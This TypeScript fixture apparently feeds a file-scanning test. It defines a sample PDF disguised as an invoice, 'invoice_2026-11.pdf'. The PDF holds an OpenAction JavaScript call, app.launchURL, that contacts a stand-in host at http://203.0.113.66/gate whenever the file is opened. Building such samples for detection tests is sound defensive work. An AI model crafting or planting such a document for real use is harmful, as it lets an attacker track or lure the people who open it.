import type { SampleFile } from '../kit/describe.ts'

/** It opens an address when it is opened. */
export const sample: SampleFile = {
  filename: 'invoice_2026-11.pdf',
  contentType: 'application/pdf',
  content: [
    '%PDF-1.7',
    '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
    '4 0 obj << /Type /Action /S /JavaScript /JS (app.launchURL\\("http://203.0.113.66/gate"\\);) >> endobj',
    'trailer << /Root 1 0 R /Size 5 >>',
    '%%EOF',
    '',
  ].join('\n'),
}
